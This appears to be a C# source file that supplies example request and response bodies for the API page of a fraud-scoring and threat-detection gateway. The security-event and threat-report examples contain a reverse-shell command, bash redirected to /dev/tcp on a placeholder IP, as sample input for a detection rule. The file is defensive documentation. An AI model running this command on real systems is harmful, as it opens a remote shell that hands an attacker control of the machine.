using System.Text.Json.Nodes;
using Platform.Contracts;

namespace Platform.Gateway;

/// <summary>Bodies that work, for the API page.</summary>
internal static class Examples
{
    private const string TransactionJson = """
        {"id":"tx-000001","time":"2026-01-31T12:00:00Z","kind":"payment","amount":129.90,"currency":"EUR",
         "account":"card-0042","counterparty":"terminal-17","device":"device-9","country":"DE","channel":"web"}
        """;

    private const string SecurityEventJson = """
        {"id":"ev-000001","time":"2026-01-31T12:00:00Z","kind":"process","source":{"product":"linux"},"user":"ann",
         "host":"web-1","fields":{"Image":"/bin/bash","CommandLine":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}}
        """;

    private const string ReasonsJson = """[{"code":"amount-spike","text":"8.1 deviations above the usual","contribution":0.91}]""";

    private const string LabelJson = """
        {"id":"cb-2026-000017","eventId":"tx-000001","verdict":"fraud","source":"chargeback","confidence":1,
         "knownAt":"2026-02-20T00:00:00Z"}
        """;

    private const string OutcomeJson = """
        {"eventId":"tx-000001","verdict":"fraud","source":"chargeback","confidence":1,"knownAt":"2026-02-20T00:00:00Z",
         "labelId":"cb-2026-000017","number":1}
        """;

    private const string TrainingJson = """
        {"events":65536,"frauds":512,"from":"2026-01-01T00:00:00Z","to":"2026-01-31T00:00:00Z","seed":0,
         "quality":{"rocAuc":0.88,"averagePrecision":0.71,"calibrationError":0.002,"events":13107,"frauds":104}}
        """;

    private const string RunJson = """
        {"id":"019c2d4e5f6a7b8c9d0e1f2a3b4c5d6e","status":"kept","text":"The champion stays: nothing is better with 95 % confidence.",
         "requestedBy":"ann","startedAt":"2026-01-31T12:00:00Z","endedAt":"2026-01-31T12:01:40Z","challenger":"1d6f8b0c2e4a",
         "champion":"0c5e7a9b1d3f"}
        """;

    private const string DataSetJson = """
        {"featureSet":"9b1c3d5e7f901234","columns":["amount","amountZ"],"asOf":"2026-01-31T00:00:00Z","labelDelaySeconds":604800,
         "training":{"from":"2025-11-18T00:00:00Z","until":"2026-01-10T00:00:00Z","events":65536,"frauds":512},
         "outOfTime":{"from":"2026-01-17T00:00:00Z","until":"2026-01-24T00:00:00Z","events":13107,"frauds":104},
         "leftOut":{"history":0,"gap":9000,"tooYoung":9000,"duplicates":0,"outOfRange":0},"latest":"2026-01-31T00:00:00Z",
         "profiles":[{"name":"amount","missingShare":0,"least":0.1,"most":4120}]}
        """;

    private const string ModelJson = $$"""
        {"version":"0c5e7a9b1d3f","featureSet":"9b1c3d5e7f901234","training":{{TrainingJson}},
         "addedBy":"ann","addedAt":"2026-01-31T12:00:00Z","stage":"champion","bytes":1048576,
         "sha256":"0c5e7a9b1d3f5e7a9b1d3f0c5e7a9b1d3f0c5e7a9b1d3f0c5e7a9b1d3f0c5e7a"}
        """;

    private static readonly Dictionary<Type, string> Bodies = new()
    {
        [typeof(Transaction)] = TransactionJson,
        [typeof(IngestResult)] = """
            {"accepted":498,"duplicates":1,"unlisted":0,
             "rejected":[{"index":3,"errors":[{"field":"amount","message":"Above 0 is expected."}]}]}
            """,
        [typeof(Decision)] = $$"""
            {"id":"tx-000001","transaction":{{TransactionJson}},"decidedAt":"2026-01-31T12:00:00.012Z","score":0.91,"verdict":"block",
             "reasons":{{ReasonsJson}},"model":{"name":"isolation-forest","version":"3","score":0.77},"rulesVersion":"5b1f0a9c"}
            """,
        [typeof(CustomScoring)] = """
            {"features":{"amountZ":3.5,"night":1,"newDevice":null},"weights":{"amountZ":0.8,"night":0.4,"newDevice":1.2},
             "intercept":-2.1,"means":{"amountZ":0.1},"method":"logistic"}
            """,
        [typeof(CustomScore)] = """
            {"score":0.7349,"margin":1.02,"intercept":-2.1,"contributions":[
             {"feature":"amountZ","value":3.5,"weight":0.8,"contribution":2.72},
             {"feature":"night","value":1,"weight":0.4,"contribution":0.4}],
             "missing":["newDevice"],"unweighted":[]}
            """,
        [typeof(RuleText)] = """
            {"text":"rules:\n  - id: night\n    when: night == 1 and amountZ > 3\n    weight: 0.6\n    reason: At night\n"}
            """,
        [typeof(ModelFile)] = $$"""
            {"format":1,"featureSet":"9b1c3d5e7f901234","columns":["amount","amountZ"],"training":{{TrainingJson}}}
            """,
        [typeof(ModelChoice)] = """{"version":"0c5e7a9b1d3f"}""",
        [typeof(ModelView)] = ModelJson,
        [typeof(ModelList)] = $$"""
            {"inForce":"0c5e7a9b1d3f","models":[{{ModelJson}}],
             "history":[{"version":"0c5e7a9b1d3f","by":"ann","at":"2026-01-31T12:05:00Z","reason":"chosen by hand","sequence":1,
             "isDeployed":true}]}
            """,
        [typeof(RetrainingRequest)] = """{"reason":"chargebacks of January are in","challengers":8,"trainingDays":60}""",
        [typeof(RetrainingRun)] = RunJson,
        [typeof(RetrainingRuns)] = $$"""{"runs":[{{RunJson}}]}""",
        [typeof(DataSetView)] = $$"""
            {"version":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08","summary":{{DataSetJson}},"findings":[]}
            """,
        [typeof(FeatureImportances)] = """
            {"version":"0c5e7a9b1d3f","features":[{"feature":"amountZ","gain":0.41,"permutation":0.52,"contribution":0.33}]}
            """,
        [typeof(ExplanationQuestion)] = """{"method":"feature","decisionId":"tx-000001"}""",
        [typeof(PredictionExplanation)] = """
            {"version":"0c5e7a9b1d3f","probability":0.83,"margin":1.9,"expected":-4.6,
             "contributions":[{"feature":"amountZ","contribution":3.1,"value":8.1}]}
            """,
        [typeof(RuleChoice)] = """{"version":"5b1f0a9c77d2"}""",
        [typeof(ListDefinition)] = """{"kind":"block","field":"counterparty","description":"known mule accounts"}""",
        [typeof(NewListEntries)] = """
            {"entries":[{"value":"acc-0042","expiresAt":"2026-12-31T00:00:00Z","reason":"chargeback of May"},{"value":"acc-0043"}]}
            """,
        [typeof(RemovedListValues)] = """{"values":["acc-0042"]}""",
        [typeof(SecurityEvent)] = SecurityEventJson,
        [typeof(SecurityEventBatch)] = $$"""{"events":[{{SecurityEventJson}}]}""",
        [typeof(ThreatReport)] = """
            {"threats":[{"id":"0f8e1c5a9b3d4e7fa1b2c3d4e5f60718","type":"execution","severity":"critical","confidence":0.75,
             "source":"sigma","rule":{"title":"A shell is connected to the network","id":"cecc1367-517c-412d-843d-2fb2aa69f0b5",
             "author":"Platform","license":"Apache-2.0"},"entity":{"kind":"user","id":"ann"},"eventId":"ev-000001",
             "indicators":[{"name":"CommandLine","text":"CommandLine is what the rule looks for.",
             "value":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}],
             "recommendedActions":["Stop the process if nobody owns it."],"attackTechniques":["T1059.004"],
             "detectedAt":"2026-01-31T12:00:00Z"}]}
            """,
        [typeof(ImportRequest)] = """{"file":"2026/payments.csv.gz","mapping":"fraud-handbook","id":"history2026"}""",
        [typeof(Import)] = ImportJson,
        [typeof(ImportPage)] = $$"""{"items":[{{ImportJson}}]}""",
        [typeof(Alert)] = AlertJson,
        [typeof(AlertClosing)] = """{"verdict":"fraud","note":"The customer was called: the card was stolen."}""",
        [typeof(LabelBatch)] = $$"""{"labels":[{{LabelJson}}]}""",
        [typeof(LabelResult)] = """{"accepted":1,"repeated":0,"changed":1,"contradicted":0}""",
        [typeof(OutcomePage)] = $$"""{"items":[{{OutcomeJson}}]}""",
        [typeof(EventLabels)] = $$"""
            {"eventId":"tx-000001","labels":[{"label":{{LabelJson}},"by":"bank","receivedAt":"2026-02-20T09:00:00Z"}],
             "outcome":{{OutcomeJson}}}
            """,
        [typeof(EntityLabelPage)] = """
            {"items":[{"label":{"id":"stolen-0042","entity":{"kind":"account","id":"card-0042","from":"2026-01-30T00:00:00Z"},
             "verdict":"fraud","source":"customer","confidence":1,"knownAt":"2026-02-01T08:00:00Z"},"by":"ann",
             "receivedAt":"2026-02-01T08:00:05Z"}]}
            """,
        [typeof(AlertPage)] = $$"""{"items":[{{AlertJson}}],"next":"AQje8Y5Wd0AANWYxYzBl"}""",
    };

    private const string ImportJson = """
        {"id":"history2026","file":"2026/payments.csv.gz","status":"running","createdAt":"2026-01-31T12:00:00Z",
         "updatedAt":"2026-01-31T12:00:41Z","progress":{"phase":"importing","rows":565322,"done":204000,"accepted":203998,"duplicates":0,
         "rejected":2,"rowsPerSecond":5120.4,"secondsLeft":70.6}}
        """;

    private const string AlertJson = $$"""
        {"id":"5f1c0e2a9b7d4e6f8a0b1c2d","sequence":42,"entity":"card-0042","reason":"amount-spike","severity":"high","score":0.91,
         "verdict":"block","count":3,"firstDecisionId":"tx-000001","lastDecisionId":"tx-000009","amount":129.90,"currency":"EUR",
         "reasons":{{ReasonsJson}},"raisedAt":"2026-01-31T12:00:00.012Z","updatedAt":"2026-01-31T12:04:10Z"}
        """;

    /// <summary>Two lines of NDJSON.</summary>
    public static JsonNode LinesOf(Type? type) =>
        type == typeof(SecurityEvent) ? TwoLines(SecurityEventJson, "ev-00000")
        : type == typeof(NewListEntry) ? TwoLines("""{"value":"acc-00001","reason":"chargeback of May"}""", "acc-0000")
        : TwoLines(TransactionJson, "tx-00000");

    /// <summary>The example of a record; null when there is none.</summary>
    public static JsonNode? Of(Type? type) => type is not null && Bodies.TryGetValue(type, out var json) ? JsonNode.Parse(json) : null;

    /// <summary>A problem as it is answered with a status.</summary>
    public static JsonNode? Problem(string status) => JsonNode.Parse(status is "400"
        ? """{"title":"One or more validation errors occurred.","status":400,"errors":{"amount":["A number is expected, above 0."]}}"""
        : $$"""{"title":"What happened, in a few words.","status":{{status}},"detail":"What to do about it."}""");

    private static JsonValue TwoLines(string json, string id)
    {
        var line = json.ReplaceLineEndings("");
        return JsonValue.Create($"{line}\n{line.Replace($"{id}1", $"{id}2", StringComparison.Ordinal)}");
    }
}
